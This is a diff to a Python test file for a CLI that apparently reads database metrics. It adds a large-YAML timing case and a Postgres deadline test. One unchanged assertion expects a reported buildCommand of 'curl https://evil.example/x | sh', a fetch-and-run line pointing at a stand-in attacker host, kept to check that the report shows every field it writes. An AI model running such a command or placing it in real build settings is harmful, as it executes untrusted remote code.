@@ -633,6 +633,7 @@ MB = 1024 * 1024
     [
         pytest.param("render-name", ("check", "--metrics", "m.json"), id="render-4mb-name"),
         pytest.param("render-run", ("check", "--metrics", "m.json"), id="render-4mb-run"),
+        pytest.param("render-headers", ("check", "--metrics", "m.json"), id="render-4mb-headers"),
         pytest.param("snapshot-source", ("check", "--metrics", "m.json"), id="snapshot-1mb"),
         pytest.param("tiers-app", ("check", "--metrics", "m.json"), id="tiers-1mb-app"),
     ],
@@ -647,6 +648,8 @@ def test_the_largest_files_end_in_bounded_time(
         )
     elif what == "render-run":
         (project / "render.yaml").write_text(run_of + "\n", "utf-8")
+    elif what == "render-headers":  # `| #` again and again: a block scalar header's comment
+        (project / "render.yaml").write_text("x: " + "| #" * (4 * MB // 3 - 10) + "\n", "utf-8")
     elif what == "snapshot-source":
         data = json.loads((project / "m.json").read_text("utf-8"))
         data["source"] = "postgresql://" + "A" * (MB - 300)
@@ -782,3 +785,26 @@ def test_apply_reports_every_field_it_writes_with_its_value(project: Path) -> No
     assert "- api `image`: `docker.io/evil/img`" in md
     assert "- api `buildCommand`: `curl https://evil.example/x | sh; pip install" in md
     assert "- api `plan`" not in md and "- api `startCommand`" not in md
+
+
+@pytest.mark.postgres
+def test_one_deadline_for_the_whole_run(db: Db) -> None:
+    """Each statement's timeout is what is left of the run's deadline: many statements cannot
+    add up past it, and once it has passed nothing more is sent."""
+    from tier_cli.config.settings import DatabaseSettings
+    from tier_cli.errors import MetricsError
+    from tier_cli.metrics.postgres.reader import MetricReader
+
+    with psycopg.connect(db.owner, autocommit=True) as conn:
+        conn.execute("BEGIN READ ONLY")
+        reader = MetricReader(conn, DatabaseSettings(statement_timeout_ms=60000), "")
+        reader.ends_at = time.monotonic() + 0.5  # half a second left of the run
+        started = time.monotonic()
+        with pytest.raises(MetricsError, match="statement timeout"):
+            reader.run("users", "SELECT pg_sleep(5)", None, None)
+        assert time.monotonic() - started < 2.5
+        conn.execute("ROLLBACK")
+        conn.execute("BEGIN READ ONLY")
+        with pytest.raises(MetricsError, match="the run's deadline"):
+            reader.run("users", "SELECT 1", None, None)
+        conn.execute("ROLLBACK")
